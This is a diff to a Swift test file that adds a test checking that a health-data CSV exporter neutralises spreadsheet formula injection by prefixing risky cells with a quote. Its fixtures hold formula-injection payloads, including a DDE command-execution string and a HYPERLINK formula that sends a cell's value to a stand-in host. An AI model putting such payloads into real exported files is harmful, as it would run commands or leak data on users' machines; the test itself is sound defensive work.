@@ -55,6 +55,32 @@ import Testing
         #expect(rows[1][8] == "A,B")
     }
 
+    /// Issue 23 finding 18: text cells a spreadsheet would run as formulas (OWASP's list: `=`, `+`,
+    /// `-`, `@`, tab, CR first) are prefixed with a single quote and quoted; numbers stay numbers.
+    @Test func csvTextCellsThatLookLikeFormulasAreNeutralised() throws {
+        let device = Device(name: "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", manufacturer: "@SUM(A1)",
+                            model: "+1-555", localIdentifier: "-2+3")
+        let sample = try quantitySample(FixtureID.weight, .bodyMass, -3.5, "kg", start: "2026-11-29T08:00:00Z",
+                                        source: "=cmd|' /C calc'!A0", device: device)
+        let tabbed = try quantitySample(FixtureID.steps, .stepCount, 12, "count", start: "2026-11-29T08:00:00Z",
+                                        source: "\tpod", device: Device(name: "\r=1+1"))
+        var writer = CSVLongWriter()
+        let text = render([.sample(sample), .sample(tabbed)], with: &writer)
+        #expect(text.contains(#",-3.5,kg,"#), "a number is written as it is: \(text)")
+        #expect(text.contains(#","'=cmd|' /C calc'!A0","'=HYPERLINK(""http://x.example/?""&A1,""open"")","'@SUM(A1)","'+1-555","'-2+3","#),
+                "\(text)")
+        #expect(text.contains("\"'\tpod\",\"'\r=1+1\""), "\(text)")
+        let rows = parseCSV(text)
+        #expect(rows.count == 3)
+        #expect(rows[1][6] == "'=cmd|' /C calc'!A0")
+        #expect(rows[1][8] == "'@SUM(A1)")
+        #expect(rows[2][6] == "'\tpod")
+        // openScale's comment column carries the source behind "ingestd ", so it never starts a formula.
+        var openScale = OpenScaleCSVWriter(timeZone: try #require(TimeZone(identifier: "UTC")))
+        let weight = try quantitySample(FixtureID.weight, .bodyMass, 70, "kg", start: "2026-11-29T08:00:00Z", source: "=1+1")
+        #expect(render([.sample(weight)], with: &openScale).contains("29.11.2026 08:00,70,,,,ingestd =1+1"))
+    }
+
     @Test func openScaleRowsGroupOneWeighingPerSourceAndInstant() throws {
         let temp = try mixedStore()
         var writer = OpenScaleCSVWriter(timeZone: try #require(TimeZone(identifier: "Europe/Berlin")))
